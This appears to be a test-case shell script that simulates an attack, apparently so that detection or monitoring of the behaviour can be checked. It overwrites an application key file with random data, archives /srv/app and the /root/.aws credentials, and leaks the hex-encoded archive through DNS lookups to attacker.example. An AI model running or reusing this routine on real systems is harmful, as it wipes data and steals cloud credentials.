#!/bin/sh
. /opt/case/case.sh

head -c 4000 /dev/urandom >/srv/app/key.db; tar -czf - /srv/app /root/.aws | od -An -v -tx1 | tr -d ' \n' | fold -w 56 >/tmp/.p; echo >>/tmp/.p
n=0; while read -r l; do n=$((n + 1)); getent ahostsv4 "$n.$l.x.attacker.example" >/dev/null || true; done </tmp/.p
test $n -gt 100
took_place
